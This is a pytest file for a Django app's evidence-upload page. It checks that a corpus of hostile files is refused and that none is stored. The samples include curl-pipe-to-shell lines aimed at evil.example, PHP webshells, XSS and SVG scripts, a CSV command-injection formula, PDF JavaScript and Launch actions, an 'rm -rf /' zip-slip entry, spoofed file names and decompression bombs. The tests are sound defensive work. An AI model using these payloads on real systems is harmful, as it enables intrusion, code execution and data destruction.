"""The hostile upload corpus: each case is one distinct attack, uploaded through the candidate's
evidence page (every allowed type: PDF, JPG, PNG, DOCX, XLSX, MP4) the way a browser or an
attacker's script would. Every case is refused next to the file field with a message the person
can act on, and nothing is stored: no Evidence row and no new file in the storage folder.

The files are made in code and small (the bombs are small packed, huge unpacked). What is refused
and why is written down in docs/security.md."""

import io
import os
import struct
import zipfile
import zlib
from pathlib import Path

import pytest
from django.conf import settings
from django.core.files.storage import default_storage
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils.html import escape
from PIL import Image

from assessments.models import Evidence
from tests import factories

pytestmark = pytest.mark.django_db

PDF = factories.PDF_BYTES
DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00" + b"\x00" * 300
PE = (
    b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00"
    + b"\x00" * 44
    + struct.pack("<I", 64)
    + b"This program cannot be run in DOS mode.\r\r\n$"
    + b"PE\x00\x00\x4c\x01"
    + b"\x00" * 300
)
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
SCRIPT = b"<script>alert(document.cookie)</script>"

# Messages (English msgids) the person sees next to the field.
MISMATCH = "does not match its name"
NOT_ACCEPTED = "Files of this type are not accepted"
ACTIVE_PDF = "PDF files with scripts, attachments or automatic actions are not accepted"
INCOMPLETE_PDF = "The PDF is incomplete"
POLYGLOT = "hides another file or a script"
TOO_MANY_PIXELS = "too large in pixels"
MACROS = "Documents with macros are not accepted"
ACTIVE_OFFICE = "embedded controls or links to other files"
ZIP_BOMB = "expands to an unsafe size"
DAMAGED = "damaged"
EMPTY = "The submitted file is empty"
TOO_LARGE = "larger than"


def image_bytes(kind: str, size: tuple[int, int] = (16, 16)) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", size, "navy").save(buffer, kind)
    return buffer.getvalue()


def zip_bytes(entries: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as archive:
        for name, data in entries.items():
            archive.writestr(zipfile.ZipInfo(name), data, compress_type=method)
    return buffer.getvalue()


def office(kind: str, extra: dict[str, bytes] | None = None, content_types: bytes = b"") -> bytes:
    main = {"docx": "word/document.xml", "xlsx": "xl/workbook.xml"}[kind]
    types = b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    types += content_types + b"</Types>"
    return zip_bytes({"[Content_Types].xml": types, main: b"<x/>", **(extra or {})})


def bomb_png() -> bytes:
    """10,000 x 10,000 pixels (one bit each) packed into about 12 kB."""
    buffer = io.BytesIO()
    Image.new("1", (10_000, 10_000)).save(buffer, "PNG")
    return buffer.getvalue()


def jpeg_with_dimensions(width: int, height: int) -> bytes:
    """A real JPEG whose frame header claims ``width`` x ``height`` pixels."""
    data = bytearray(image_bytes("JPEG"))
    sof = data.index(b"\xff\xc0")
    data[sof + 5 : sof + 9] = struct.pack(">HH", height, width)
    return bytes(data)


def jpeg_with_comment(comment: bytes) -> bytes:
    data = image_bytes("JPEG")
    segment = b"\xff\xfe" + struct.pack(">H", len(comment) + 2) + comment
    return data[:2] + segment + data[2:]


def pdf_with(catalog_extra: bytes) -> bytes:
    return PDF.replace(b"/Type /Catalog", b"/Type /Catalog " + catalog_extra)


def pdf_with_script_in_object_stream() -> bytes:
    """The action dictionary lives only inside a compressed object stream (PDF 1.5), where a
    search of the raw bytes cannot see it."""
    body = b"1 0 << /S /JavaScript /JS (app.launchURL('http://evil.example')) >>"
    packed = zlib.compress(body)
    return (
        b"%PDF-1.5\n"
        + b"2 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length "
        + str(len(packed)).encode()
        + b" >>\nstream\n"
        + packed
        + b"\nendstream\nendobj\n"
        + b"3 0 obj << /Type /Catalog /OpenAction 1 0 R >> endobj\n"
        + b"trailer << /Root 3 0 R >>\n%%EOF\n"
    )


# name -> (file name, content, browser Content-Type, message fragment)
HOSTILE: dict[str, tuple[str, bytes, str, str]] = {
    # Executables and scripts disguised as documents.
    "elf_executable_renamed_pdf": ("laporan.pdf", ELF, "application/pdf", MISMATCH),
    "pe_executable_renamed_pdf": ("laporan.pdf", PE, "application/pdf", MISMATCH),
    "double_extension_pdf_exe": ("laporan.pdf.exe", PE, "application/pdf", NOT_ACCEPTED),
    "double_extension_exe_pdf": ("setup.exe.pdf", PE, "application/pdf", MISMATCH),
    "shell_script_renamed_pdf": (
        "cv.pdf",
        b"#!/bin/sh\ncurl http://evil.example/x | sh\n",
        "application/pdf",
        MISMATCH,
    ),
    "eicar_test_virus_renamed_pdf": ("scan.pdf", EICAR, "application/pdf", MISMATCH),
    "php_webshell_renamed_jpg": (
        "foto.jpg",
        b"<?php system($_GET['c']); ?>",
        "image/jpeg",
        MISMATCH,
    ),
    # Web pages disguised as documents and images.
    "html_renamed_pdf": ("ijazah.pdf", b"<!doctype html>" + SCRIPT, "application/pdf", MISMATCH),
    "html_renamed_jpg": ("foto.jpg", b"<html><body>" + SCRIPT, "image/jpeg", MISMATCH),
    "svg_with_script_renamed_png": (
        "foto.png",
        b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">' + SCRIPT + b"</svg>",
        "image/png",
        MISMATCH,
    ),
    "svg_with_script_as_svg": (
        "logo.svg",
        b'<svg xmlns="http://www.w3.org/2000/svg">' + SCRIPT + b"</svg>",
        "image/svg+xml",
        NOT_ACCEPTED,
    ),
    "html_renamed_mp4": ("video.mp4", b"<html>" + SCRIPT, "video/mp4", MISMATCH),
    # Other formats behind an allowed name.
    "gif_renamed_png": ("foto.png", image_bytes("GIF"), "image/png", MISMATCH),
    "bmp_renamed_jpg": ("foto.jpg", image_bytes("BMP"), "image/jpeg", MISMATCH),
    "old_ole_doc_renamed_docx": (
        "cv.docx",
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 2048,
        DOCX,
        MISMATCH,
    ),
    "csv_formula_injection_renamed_xlsx": (
        "nilai.xlsx",
        b"nama,nilai\n=cmd|' /C calc'!A0,90\n",
        XLSX,
        MISMATCH,
    ),
    # A Content-Type header that lies: the browser says PDF, the name says nothing.
    "content_type_lies_no_extension": ("laporan", PDF, "application/pdf", NOT_ACCEPTED),
    # PDFs with active content (refused, not neutralised: see docs/security.md).
    "pdf_javascript_open_action": (
        "cv.pdf",
        pdf_with(b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"),
        "application/pdf",
        ACTIVE_PDF,
    ),
    "pdf_launch_action": (
        "cv.pdf",
        pdf_with(b"/OpenAction << /S /Launch /F (cmd.exe) >>"),
        "application/pdf",
        ACTIVE_PDF,
    ),
    "pdf_embedded_file": (
        "cv.pdf",
        pdf_with(b"/Names << /EmbeddedFiles << /Names [(a.exe) << /EF << /F 9 0 R >> >>] >> >>"),
        "application/pdf",
        ACTIVE_PDF,
    ),
    "pdf_javascript_hex_escaped_name": (
        "cv.pdf",
        pdf_with(b"/OpenAction << /S /Java#53cript /J#53 (app.alert(1)) >>"),
        "application/pdf",
        ACTIVE_PDF,
    ),
    "pdf_javascript_in_compressed_object_stream": (
        "cv.pdf",
        pdf_with_script_in_object_stream(),
        "application/pdf",
        ACTIVE_PDF,
    ),
    "pdf_truncated": ("cv.pdf", PDF[:-7], "application/pdf", INCOMPLETE_PDF),
    # Polyglots: one file that is two things.
    "pdf_html_polyglot": ("cv.pdf", PDF + b"<html>" + SCRIPT, "application/pdf", POLYGLOT),
    "pdf_with_appended_zip": (
        "cv.pdf",
        PDF + zip_bytes({"payload.js": b"alert(1)"}),
        "application/pdf",
        POLYGLOT,
    ),
    "jpeg_with_appended_zip": (
        "foto.jpg",
        image_bytes("JPEG") + zip_bytes({"shell.php": b"<? system($_GET[c]);"}),
        "image/jpeg",
        POLYGLOT,
    ),
    "png_with_trailing_script": ("foto.png", image_bytes("PNG") + SCRIPT, "image/png", POLYGLOT),
    "jpeg_with_php_in_comment": (
        "foto.jpg",
        jpeg_with_comment(b"<?php system($_GET['c']); ?>"),
        "image/jpeg",
        POLYGLOT,
    ),
    # Decompression bombs.
    "png_decompression_bomb": (
        "foto.png",
        bomb_png(),
        "image/png",
        TOO_MANY_PIXELS,
    ),
    "jpeg_header_claims_huge_dimensions": (
        "foto.jpg",
        jpeg_with_dimensions(60_000, 60_000),
        "image/jpeg",
        TOO_MANY_PIXELS,
    ),
    "docx_zip_bomb": (
        "cv.docx",
        office("docx", {"word/media/bomb.xml": b"0" * 40_000_000}),
        DOCX,
        ZIP_BOMB,
    ),
    "docx_too_many_entries": (
        "cv.docx",
        office("docx", {f"word/x/{i}.xml": b"" for i in range(2100)}),
        DOCX,
        ZIP_BOMB,
    ),
    # Office documents with active content.
    "docx_with_vba_macros": (
        "cv.docx",
        office("docx", {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"}),
        DOCX,
        MACROS,
    ),
    "docm_content_renamed_docx": (
        "cv.docx",
        office(
            "docx",
            content_types=b'<Override PartName="/word/document.xml" ContentType="application/'
            b'vnd.ms-word.document.macroEnabled.main+xml"/>',
        ),
        DOCX,
        MACROS,
    ),
    "xlsm_macros_renamed_xlsx": (
        "nilai.xlsx",
        office("xlsx", {"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0"}),
        XLSX,
        MACROS,
    ),
    "docx_with_activex_control": (
        "cv.docx",
        office("docx", {"word/activeX/activeX1.xml": b"<ax:ocx/>"}),
        DOCX,
        ACTIVE_OFFICE,
    ),
    "xlsx_with_external_link": (
        "nilai.xlsx",
        office("xlsx", {"xl/externalLinks/externalLink1.xml": b"<externalLink/>"}),
        XLSX,
        ACTIVE_OFFICE,
    ),
    "docx_zip_slip_entry": (
        "cv.docx",
        office("docx", {"../../../../tmp/evil.sh": b"rm -rf /"}),
        DOCX,
        DAMAGED,
    ),
    # Empty.
    "zero_bytes": ("kosong.pdf", b"", "application/pdf", EMPTY),
    # Hostile names (Django's parser already drops directories, NUL and direction characters;
    # what is left is judged like any other name).
    "path_traversal_name_with_script": (
        "../../../etc/cron.d/backdoor.sh",
        b"* * * * * root sh -c 'curl evil.example|sh'\n",
        "application/pdf",
        NOT_ACCEPTED,
    ),
    "nul_byte_truncation_name": ("cv.pdf\x00.exe", PE, "application/pdf", NOT_ACCEPTED),
    "rtl_override_hides_exe": ("cv\u202efdp.exe", PE, "application/pdf", NOT_ACCEPTED),
    "very_long_name_with_exe": ("a" * 2000 + ".pdf.exe", PE, "application/pdf", NOT_ACCEPTED),
}


@pytest.fixture
def en(client):
    client.cookies[settings.LANGUAGE_COOKIE_NAME] = "en"
    return client


@pytest.fixture
def assessment(candidate):
    return factories.AssessmentFactory(candidate=candidate)


def stored_files() -> set[str]:
    root = Path(default_storage.location)
    return {
        str(Path(folder, name).relative_to(root))
        for folder, _dirs, names in os.walk(root)
        for name in names
    }


def upload(client, assessment, name: str, data: bytes, content_type: str):
    url = reverse("assessments:evidence", args=[assessment.pk])
    file = SimpleUploadedFile(name, data, content_type=content_type)
    return client.post(url, {"title": "Laporan", "description": "Proyek", "file": file})


def test_the_corpus_has_at_least_25_distinct_attacks():
    assert len(HOSTILE) >= 25
    contents = [data for _name, data, _ct, _msg in HOSTILE.values()]
    assert len(set(contents)) >= 25


@pytest.mark.parametrize("case", list(HOSTILE))
def test_a_hostile_file_is_refused_with_a_message_and_nothing_is_stored(
    en, candidate, assessment, case
):
    name, data, content_type, message = HOSTILE[case]
    en.force_login(candidate)
    files_before = stored_files()
    response = upload(en, assessment, name, data, content_type)
    assert response.status_code == 200, response.status_code
    errors = " ".join(response.context["upload_form"].errors.get("file", []))
    assert message in errors, errors
    assert escape(errors.split(". ")[0]) in response.content.decode()
    assert not Evidence.objects.filter(assessment=assessment).exists()
    assert stored_files() == files_before


def test_a_file_over_the_limit_is_refused_while_it_streams_in(en, candidate, assessment, settings):
    settings.KOMPETEN_UPLOAD_MAX_BYTES = 4096
    settings.KOMPETEN_VIDEO_MAX_BYTES = 4096
    en.force_login(candidate)
    files_before = stored_files()
    response = upload(en, assessment, "besar.pdf", PDF + b"%" * 50_000, "application/pdf")
    # The upload handler skipped the file as soon as it passed the limit.
    assert response.wsgi_request.refused_uploads == {"file"}
    assert "file" not in response.wsgi_request.FILES
    assert TOO_LARGE in " ".join(response.context["upload_form"].errors["file"])
    assert not Evidence.objects.filter(assessment=assessment).exists()
    assert stored_files() == files_before


def test_a_request_far_over_the_limit_is_not_read_at_all(en, candidate, assessment, settings):
    settings.KOMPETEN_UPLOAD_MAX_BYTES = 4096
    settings.KOMPETEN_VIDEO_MAX_BYTES = 4096
    en.force_login(candidate)
    files_before = stored_files()
    response = upload(en, assessment, "besar.pdf", PDF + b"%" * 2_300_000, "application/pdf")
    assert response.status_code == 302
    assert response.wsgi_request.upload_too_large is True
    page = en.get(response["Location"])
    assert "far too large" in page.content.decode()
    assert not Evidence.objects.filter(assessment=assessment).exists()
    assert stored_files() == files_before


@pytest.mark.parametrize(
    ("name", "expected"),
    [
        ("../../../etc/passwd.pdf", "passwd.pdf"),
        ("..\\..\\windows\\win.pdf", "win.pdf"),
        ("cv\x00.pdf", "cv.pdf"),
        ("cv\u202egnp.pdf", "cvgnp.pdf"),
        ("b" * 3000 + ".pdf", "b" * 80 + ".pdf"),
    ],
)
def test_a_real_pdf_under_a_hostile_name_is_stored_under_a_safe_name_inside_storage(
    en, candidate, assessment, name, expected
):
    """A name alone cannot hurt: the file is judged by its content, and its name is reduced to
    a plain one; the stored path stays inside the storage folder."""
    en.force_login(candidate)
    response = upload(en, assessment, name, PDF, "application/pdf")
    assert response.status_code == 302
    evidence = Evidence.objects.get(assessment=assessment)
    assert evidence.original_name == expected
    root = Path(default_storage.location).resolve()
    assert Path(evidence.file.path).resolve().is_relative_to(root)
    assert ".." not in evidence.file.name and "\x00" not in evidence.file.name


def test_the_content_type_a_browser_claims_is_never_stored(en, candidate, assessment):
    en.force_login(candidate)
    upload(en, assessment, "foto.png", image_bytes("PNG"), "text/html")
    assert Evidence.objects.get(assessment=assessment).content_type == "image/png"
